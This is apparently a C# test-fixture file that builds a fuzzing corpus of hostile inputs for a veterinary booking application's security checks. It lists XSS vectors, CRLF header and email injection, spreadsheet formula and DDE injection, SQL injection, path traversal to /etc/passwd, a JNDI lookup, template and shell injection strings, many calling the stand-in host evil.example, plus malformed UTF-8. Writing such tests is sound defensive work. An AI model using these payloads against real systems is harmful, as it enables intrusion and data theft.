using System.Globalization;
using System.Text;

namespace VetBooking.Verify.Attacks.Hostile;

/// <summary>Something nobody should type, and which kind of mischief it is.</summary>
internal sealed record Payload(string Class, string Text)
{
    /// <summary>What goes over the wire: the text in UTF-8, or bytes that are no text at all.</summary>
    public byte[] Bytes { get; init; } = Encoding.UTF8.GetBytes(Text.Replace("\uD800", "", StringComparison.Ordinal));

    /// <summary>More than any address or header may hold; being cut off is an answer to that.</summary>
    public bool IsHuge => Bytes.Length > 8_000;

    /// <summary>Sent as it is inside the first line of a request, it ends that line before the version of HTTP.</summary>
    public bool CutsTheLine => Bytes.AsSpan().ContainsAny((byte)'\r', (byte)'\n', (byte)' ');
}

/// <summary>
/// All payloads: what is to be smuggled in × where it would have to break out of × how it is spelled. Each calls
/// <c>vbmark(number)</c>, or at least says so, so that it is known again wherever it turns up.
/// </summary>
internal static class Payloads
{
    private static readonly string[] Openings =
    [
        "", "\"", "'", ">", "\">", "'>", "-->", "</title>", "</textarea>", "</script>", "</style>", "</option></select>", "</svg>", "]]>", "`", "\\\"", "&quot;>", "\0\">", "<!--",
    ];

    private static readonly string[] Scripts =
    [
        "<script>§</script>", "<img src=x onerror=§>", "<svg onload=§>", "<body onload=§>", "<details open ontoggle=§>", "<input autofocus onfocus=§>",
        "<iframe srcdoc=\"<script>parent.§</script>\">", "<iframe src=javascript:§>", "<object data=javascript:§>", "<embed src=javascript:§>", "<a href=javascript:§>x</a>",
        "<math><a xlink:href=javascript:§>x", "<video><source onerror=§>", "<audio src=x onerror=§>", "<svg><animate onbegin=§ attributeName=x>", "<svg><script>§</script></svg>",
        "<style>@import'//evil.example/§'</style>", "<link rel=stylesheet href=//evil.example/§>", "<meta http-equiv=refresh content=0;url=//evil.example/§>", "<base href=//evil.example/§/>",
        "<form action=//evil.example/§><button>x", "<img src=//evil.example/§.png>", "<script src=//evil.example/§.js></script>", " onmouseover=§ autofocus onfocus=§ x=", "javascript:§", ";§;//",
        "${§}", "{{§}}", "<template><img src=x onerror=§></template>", "<noscript><p title=\"</noscript><img src=x onerror=§>\">", "<marquee onstart=§>", "<div style=\"background:url(//evil.example/§)\">",
    ];

    private static readonly Func<string, string>[] Spellings =
    [
        text => text, text => text.Replace("script", "ScRiPt", StringComparison.Ordinal).Replace(" on", "/on", StringComparison.Ordinal),
        Uri.EscapeDataString, text => string.Concat(text.Select(one => one is '<' or '>' or '"' or '\'' ? string.Create(CultureInfo.InvariantCulture, $"&#x{(int)one:x};") : one.ToString())),
    ];

    private static readonly string[] Breaks = ["\r\n", "\n", "\r", "\u2028", "\u2029", "\u0085", "\v", "\f", "%0d%0a", "\\r\\n", "\r\n ", "\u560d\u560a"];

    private static readonly string[] Lines =
    [
        "Bcc: §@evil.example", "Cc: §@evil.example", "To: §@evil.example", "Subject: §", "X-§: 1", "Content-Type: text/html§", "Set-Cookie: praxis=§", "Location: //evil.example/§", "\r\n<script>§</script>",
        "BEGIN:VEVENT", "END:VEVENT\r\nBEGIN:VEVENT\r\nUID:§", "ATTACH:http://evil.example/§", "ATTENDEE:mailto:§@evil.example", "X-WR-§:1", "END:VCALENDAR§", "BEGIN:VALARM\r\nACTION:§", "DTSTART:20300101T000000Z", "RRULE:FREQ=SECONDLY",
        "=cmd|' /C calc'!A0;§", "\";\"=§", "data: §", "event: §", "HTTP/1.1 200 OK\r\n\r\n§", ".\r\nMAIL FROM:<§@evil.example>",
    ];

    private static readonly string[] Formulas =
    [
        "=1+1", "=HYPERLINK(\"http://evil.example/§\")", "+1+1", "-1+1", "@SUM(1)", "\t=1", "\r=1", "\n=1", "=cmd|' /C calc'!A0", "=WEBSERVICE(\"http://evil.example/§\")", "＝1+1", "＋1", "－1", "＠SUM(1)",
        "\"=1", "'=1", ";=1", ",=1", "\";=1;\"", "\",=1,\"", " =1", "\u00A0=1", "\u200B=1", "=IMPORTXML(\"http://evil.example\")", "DDE(\"cmd\";\"/C calc\")", "@=1", "=\u202E1",
    ];

    private static readonly string[] Others =
    [
        "' OR 1=1 --", "'; DROP TABLE owner; --", "\" OR \"\"=\"", "1 UNION SELECT token_hash FROM session", "%' ESCAPE '\\", "*", "\"\"", "NEAR(a b)", "a* OR b:", "^x", "{a b}:c", "-a", "(", "'||(SELECT 1)||'",
        "../../../../etc/passwd", "..%2f..%2fpractice.db", "..\\..\\practice.db", "%2e%2e/%2e%2e/", "....//", "/etc/passwd\0.png", "file:///etc/passwd", "CON", "%00", "\0", "a\0b", "~root", "//evil.example/§", "\\\\evil.example\\§", "/\\evil.example/§",
        "https://evil.example/§", "https:evil.example", "http://127.0.0.1@evil.example/", "/praxis/../../x", "@evil.example", "data:text/html,<script>§</script>", "vbscript:§", "java\tscript:§", "&#106;avascript:§",
        "0", "-1", "-0", "2147483647", "2147483648", "-2147483649", "9223372036854775807", "9223372036854775808", "99999999999999999999999999", "1e308", "1e309", "NaN", "Infinity", "0x10", "1.5", "1,5", "٣", "１２", "1_000", "+1", " 1 ", "",
        " ", "\t", "0000-00-00", "9999-12-31", "10000-01-01", "-0001-01-01", "2026-02-30", "2026-13-01", "2028-02-29", "0001-01-01", "2026-10-25", "2026-03-29", "2026-W54", "2026-W00", "99999-W99", "24:00", "23:60", "25:00", "-1:00", "9999-12-31T23:59:59Z",
        "0001-01-01T00:00:00+18:00", "2026-10-25T02:30:00+02:00", "9999-12-31T23:59:59-18:00", "2027-03-28T02:30", "P1Y", "null", "undefined", "true", "[]", "{}", "[object Object]", "{\"a\":1}", "[[[[[[", "%s%s%n", "%d", "{0}", "{0:D99999999}", "{99}", "{", "}", "{{", "}}",
        "{name}", "{count, plural, one {x} other {y}}", "{x, select, other {§}}", "#{§}", "<%= § %>", "@(§)", "@Model", "{{constructor.constructor('§')()}}", "${jndi:ldap://evil.example/§}", "$(§)", "`§`", "| §", "; §", "&& §", "!!§",
        "**§**", "[x](javascript:§)", "[x](//evil.example/§)", "[x](data:text/html,§)", "![x](//evil.example/§)", "<javascript:§>", "# §", "- §\n- §", "```§", "**[x](javascript:§)**", "[**x](javascript:§)", "[x](https://evil.example/\" onclick=§)", "[\n](x)", "~~§~~", "|§|§|",
        "\u202E§", "\u202D\u202E\u2066§\u2069", "\u200B", "\u200B\u200C\u200D\uFEFF", "a\u0300\u0301\u0302\u0303\u0304\u0305", "𝕬𝖇𝖈", "👩‍👩‍👧‍👦", "ﷺ", "İıſK", "\uFFFE\uFFFF", "\uFDD0", "\u061C§", "ß", "ŉ", "\u1E9E", "\u0001\u0002\u001B[31m§", "\u007F", "\u009B31m",
        "=?utf-8?B?PHNjcmlwdD4=?=", "=?utf-8?Q?=0D=0ABcc:_§@evil.example?=", "\"a\" <§@evil.example>", "a@b.example, §@evil.example", "a@b.example;§@evil.example", "<§@evil.example>", "a@b.example\0@evil.example", "a@b@evil.example", "\"a b\"@example.org", "a@[127.0.0.1]", "a@xn--", "a@-.example",
        "a@example.org\u200B", "ä@exämple.org", "(§)a@example.org", "a+§@example.org", "@example.org", "a@", "root", "postmaster@localhost", "|cat@example.org", "-oQ/tmp@example.org", "xn--80ak6aa92e", "W/\"§\"", "bytes=0-", "bytes=-1,0-,5-3", "gzip;q=9", "de;q=§", "*/*;q=1e9", "multipart/form-data", "multipart/form-data; boundary=§", "application/json; charset=utf-7",
    ];

    public static List<Payload> All()
    {
        var all = new List<Payload>();
        void Add(string kind, string text)
        {
            var mark = string.Create(CultureInfo.InvariantCulture, $"vbmark({all.Count})");
            all.Add(new Payload(kind, text.Contains('§', StringComparison.Ordinal) ? text.Replace("§", mark, StringComparison.Ordinal) : text));
        }
        foreach (var script in Scripts)
        {
            for (var i = 0; i < Openings.Length; i++)
            {
                // Every opening with every script; the other spellings in turns, so that each meets each opening.
                Add("script", Openings[i] + script);
                Add("script", Spellings[1 + (i % (Spellings.Length - 1))](Openings[i] + script));
            }
        }
        foreach (var line in Lines)
        {
            foreach (var lineBreak in Breaks)
            {
                Add("line", "Bello" + lineBreak + line);
                Add("line", lineBreak + line + lineBreak + "§");
            }
        }
        foreach (var formula in Formulas)
        {
            Add("formula", formula);
            Add("formula", formula + " §");
        }
        foreach (var other in Others)
        {
            Add("other", other);
            if (!other.Contains('§', StringComparison.Ordinal)) Add("other", other + "§");
        }
        foreach (var (length, unit) in new[] { (10_000, "x"), (10_000, "<b>"), (10_000, "\r\n"), (10_000, "\u0301"), (10_000, "&"), (10_000, "**"), (10_000, "["), (10_000, "("), (200_000, "\""), (1_000_000, "x"), (1_000_000, "<img src=x onerror=vbmark(0)>") })
        {
            Add("long", string.Concat(Enumerable.Repeat(unit, length / unit.Length)) + "§");
        }
        foreach (var bytes in Torn) all.Add(new Payload("bytes", "") { Bytes = [.. bytes, .. Encoding.ASCII.GetBytes(string.Create(CultureInfo.InvariantCulture, $"<img src=x onerror=vbmark({all.Count})>"))] });
        return [.. all.DistinctBy(one => Convert.ToHexString(one.Bytes))];
    }

    /// <summary>Overlong forms of NUL, slash, less-than and quote, lone surrogates, endings without a beginning and the reverse, and more than Unicode has.</summary>
    private static readonly byte[][] Torn =
    [
        [0xC0, 0x80], [0xC0, 0xAF], [0xC0, 0xBC], [0xE0, 0x80, 0xBC], [0xF0, 0x80, 0x80, 0xBC], [0xC0, 0xA2], [0xED, 0xA0, 0x80], [0xED, 0xB0, 0x80], [0xED, 0xA0, 0x80, 0xED, 0xB0, 0x80], [0x80], [0xBF, 0xBF],
        [0xC3], [0xE2, 0x82], [0xF0, 0x9F], [0xF4, 0x90, 0x80, 0x80], [0xF8, 0x88, 0x80, 0x80, 0x80], [0xFE], [0xFF], [0xFF, 0xFE], [0xFE, 0xFF], [0xC0, 0x8D, 0xC0, 0x8A], [0x2B, 0x41, 0x44, 0x77, 0x2D], [0x00, 0x3C], [0xE5, 0x98, 0x8A],
    ];
}
